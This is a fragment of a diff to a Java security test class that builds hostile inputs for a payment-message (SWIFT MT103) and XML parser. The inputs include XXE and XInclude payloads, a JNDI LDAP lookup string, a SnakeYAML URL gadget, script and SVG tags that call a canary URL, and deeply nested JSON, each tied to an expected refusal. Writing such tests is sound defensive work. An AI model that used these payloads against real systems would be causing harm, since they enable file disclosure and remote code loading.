-                + ":59:/DE89370400440532013000\r\nBEN BEISPIEL\r\n:70:INVOICE 7\r\n:71A:SHA\r\n:77T:%s\r\n-}";
+        String mt =
+                "{1:F01GIROFRPPAXXX0000000000}{2:I103BANKDEFFXXXXN}{3:{119:REMIT}}{4:\r\n:20:HOSTILE\r\n:23B:CRED\r\n"
+                        + ":32A:261123EUR12,50\r\n:50K:/FR7630006000011234567890189\r\nADA EXAMPLE\r\n"
+                        + ":59:/DE89370400440532013000\r\nBEN BEISPIEL\r\n:70:INVOICE 7\r\n:71A:SHA\r\n:77T:%s\r\n-}";
         add("mt-envelope-xml", Expected.SETTLED, String.format(mt, DECLARATION + next()));
         add("mt-envelope-doctype", Expected.SETTLED, String.format(mt, doctype + next()));
-        add("mt-envelope-include", Expected.SETTLED,
+        add(
+                "mt-envelope-include",
+                Expected.SETTLED,
                 String.format(mt, "<xi:include" + XI + " href=\"" + canary.fileUrl() + "\"/>"));
         refused("mt-remittance-entity", mt.replace("INVOICE 7", "&xxe;").replace("%s", "x"));
         refused("mt-remittance-doctype", mt.replace("INVOICE 7", doctype).replace("%s", "x"));
@@ -652,17 +758,23 @@ public final class HostileXml {
         refused("xml-with-mt", DECLARATION + doctype + next().replace("Invoice 7", mt.replace("%s", "x")));
         refused("rje", mt.replace("{3:{119:REMIT}}", "").replace("%s", "x") + "$" + doctype + next());
         refused("html", "<!DOCTYPE html><html><script src=\"" + canary.httpUrl() + "\"></script></html>");
-        refused("svg", DECLARATION + "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + canary.httpUrl()
-                + "\"/></svg>");
+        refused(
+                "svg",
+                DECLARATION + "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + canary.httpUrl()
+                        + "\"/></svg>");
         refused("dtd", "<?xml version=\"1.0\"?><!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">");
         refused("json", "{\"kind\":\"" + canary.fileUrl() + "\",\"a\":" + "[".repeat(100_000));
         refused("yaml", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + canary.httpUrl() + "\"]]");
         refused("url", canary.httpUrl() + "\n" + canary.fileUrl());
         refused("lookup", "${jndi:ldap://127.0.0.1:" + canary.port() + "/a}");
-        add("lookup-in-text", Expected.SETTLED, DECLARATION
-                + next().replace("Invoice 7", "${jndi:ldap://127.0.0.1:" + canary.port() + "/a}"));
-        add("expression-in-text", Expected.SETTLED, DECLARATION
-                + next().replace("Invoice 7", "${body} ${file:name} #{1+1} {{sys:user.home}}"));
+        add(
+                "lookup-in-text",
+                Expected.SETTLED,
+                DECLARATION + next().replace("Invoice 7", "${jndi:ldap://127.0.0.1:" + canary.port() + "/a}"));
+        add(
+                "expression-in-text",
+                Expected.SETTLED,
+                DECLARATION + next().replace("Invoice 7", "${body} ${file:name} #{1+1} {{sys:user.home}}"));
         refused("zip", "PK\u0003\u0004" + doctype + next());
         add("gzip", Expected.REFUSED, ("\u001F\u008B\u0008" + next()).getBytes(StandardCharsets.ISO_8859_1));
     }
